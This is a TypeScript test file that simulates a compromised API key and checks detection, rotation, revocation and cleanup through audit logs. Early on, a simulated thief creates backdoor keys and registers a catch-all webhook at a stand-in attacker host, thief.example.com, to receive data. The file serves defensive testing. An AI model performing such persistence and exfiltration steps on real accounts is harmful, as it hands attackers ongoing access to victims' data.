import t from 'tap';
import * as sdk from '../../generated/sdk/dist/index.js';
import { createPublisher } from '../examples/publisher.ts';
import { startServer } from '../support/server.ts';
import { errorOf } from './error-of.ts';

const hour = 3_600_000;
const website = { 'x-forwarded-for': '198.51.100.7' };
const thief = { 'x-forwarded-for': '203.0.113.66' };

t.test('a key is compromised: what the thief did is found, undone, and not repeated', async (t) => {
  const server = await startServer(t);
  const { tenantId: tenant_id, api: owner } = await createPublisher(server.url);
  const holderOf = (key: string, headers: { readonly [name: string]: string }) =>
    sdk.createColophon({ baseUrl: server.url, credential: sdk.workspaceKey(key), headers, retries: 0 });
  const list = (api: sdk.Colophon) => errorOf(api.articles.list({ tenant_id, status: 'draft' }));
  const { data: leaked } = await owner.workspaceKeys.createApiKey({ body: { name: 'Website', scopes: ['*'] } });
  const site = holderOf(leaked.key, website);
  const stolen = holderOf(leaked.key, thief);
  const { article } = await site.articles.create({
    tenant_id,
    body: { title: 'Plans', content: 'Ours', status: 'published' },
  });

  // The thief deletes, and prepares ways back: a key and an endpoint of their own.
  await stolen.articles.delete({ tenant_id, article_id: article.id });
  const { data: backdoor } = await stolen.workspaceKeys.createApiKey({ body: { name: 'Website 2', scopes: ['*'] } });
  const { data: endpoint } = await stolen.webhooks.create({
    body: { url: 'https://thief.example.com/', events: ['*'] },
  });
  const idempotencyKey = '3f1e9a52-6d1c-4b7e-9f4e-5a6b7c8d9e0f';
  const secret = { body: { name: 'Website 3', scopes: ['*'] as ['*'] } };
  const { data: third } = await stolen.workspaceKeys.createApiKey(secret, { idempotencyKey });

  // The owner sees what was called, and from where.
  const { data: uses } = await owner.workspaceKeys.getApiKeyUsage({ id: leaked.id });
  t.same(
    new Map(uses.operations.map(({ operation, success }) => [operation, success])),
    new Map([
      ['createApiKey', 2],
      ['createArticle', 1],
      ['createWebhook', 1],
      ['deleteArticle', 1],
    ]),
  );
  const { logs } = await owner.auditLogs.listTenantAuditLogs({ tenant_id });
  const done = logs.filter(({ ip }) => ip === thief['x-forwarded-for']);
  t.same(
    done.map(({ action, resource_id }) => [action, resource_id]),
    [
      ['api_key.create', `${third.id}`],
      ['webhook.create', `${endpoint.id}`],
      ['api_key.create', `${backdoor.id}`],
      ['article.delete', `${article.id}`],
    ],
  );
  t.ok(
    done.every(({ details }) => details.workspace_key_id === leaked.id),
    'each entry names the key',
  );
  for (const key of [leaked.key, backdoor.key, third.key, endpoint.secret])
    t.notOk(JSON.stringify(logs).includes(key), 'no secrets');

  // Rotated with a day for the move: the website goes on with both keys, and so does the thief with the old one.
  const { data: rotated } = await owner.workspaceKeys.rotateApiKey({ id: leaked.id, body: { grace_period_hours: 24 } });
  const moved = holderOf(rotated.key, website);
  t.match(rotated, { name: 'Website', scopes: ['*'] });
  t.not(rotated.key, leaked.key);
  t.equal(await list(site), undefined);
  t.equal(await list(moved), undefined);
  t.equal(await list(stolen), undefined);
  t.match(await errorOf(owner.workspaceKeys.rotateApiKey({ id: leaked.id, body: {} })), { status: 422 }, 'once');

  // The website has moved sooner: the old key ends now, everywhere, and looks like one that never existed.
  await owner.workspaceKeys.revokeApiKey({ id: leaked.id });
  const unknown = `${leaked.key.slice(0, -1)}${leaked.key.endsWith('a') ? 'b' : 'a'}`;
  t.same((await list(stolen))?.body, (await list(holderOf(unknown, thief)))?.body);
  for (const [name, call] of Object.entries({
    'reads what is public': () => stolen.articles.list({ tenant_id }),
    'reads the inside': () => stolen.webhooks.list({}),
    writes: () => stolen.articles.create({ tenant_id, body: { title: 'Mine', content: 'Mine' } }),
    'rotates itself': () => stolen.workspaceKeys.rotateApiKey({ id: leaked.id, body: {} }),
    'repeats a call whose response contains a key': () => stolen.workspaceKeys.createApiKey(secret, { idempotencyKey }),
  }))
    t.equal((await errorOf(call()))?.status, 401, name);

  // The ways back are closed: they outlive the key, so the owner ends each that the audit log names.
  t.equal(await list(holderOf(backdoor.key, thief)), undefined);
  for (const { action, resource_id } of done) {
    const id = Number(resource_id);
    if (action === 'api_key.create') await owner.workspaceKeys.revokeApiKey({ id });
    if (action === 'webhook.create') await owner.webhooks.delete({ id });
    if (action === 'article.delete') await owner.trash.restoreTrashedArticle({ tenant_id, article_id: id });
  }
  for (const key of [backdoor.key, third.key]) t.equal((await list(holderOf(key, thief)))?.status, 401);
  t.same((await owner.webhooks.list({})).data, []);
  t.match(await moved.articles.getBySlug({ tenant_id, slug: 'plans' }), { article: { title: 'Plans' } });
  t.same(
    (await owner.workspaceKeys.listApiKeys({})).data.map(({ id }) => id),
    [rotated.id],
  );

  // From now on the key can less, from one address, and ends by itself.
  const { data: narrow } = await owner.workspaceKeys.createApiKey({
    body: {
      name: 'Website',
      scopes: ['posts:read', 'posts:write'],
      allowed_ips: [website['x-forwarded-for']],
      expires_at: new Date(server.clock.now().getTime() + hour / 2).toISOString(),
    },
  });
  await owner.workspaceKeys.revokeApiKey({ id: rotated.id });
  t.equal((await list(moved))?.status, 401);
  t.equal(await list(holderOf(narrow.key, website)), undefined);
  t.equal((await list(holderOf(narrow.key, thief)))?.status, 403);
  t.equal((await errorOf(holderOf(narrow.key, website).workspaceKeys.listApiKeys({})))?.status, 403);
  server.clock.advance(hour / 2);
  t.equal((await list(holderOf(narrow.key, website)))?.status, 401);
  const { data: after } = await owner.workspaceKeys.getApiKeyUsage({ id: leaked.id });
  t.equal(after.total.success, uses.total.success + 2, 'the uses of a revoked key stay');
});
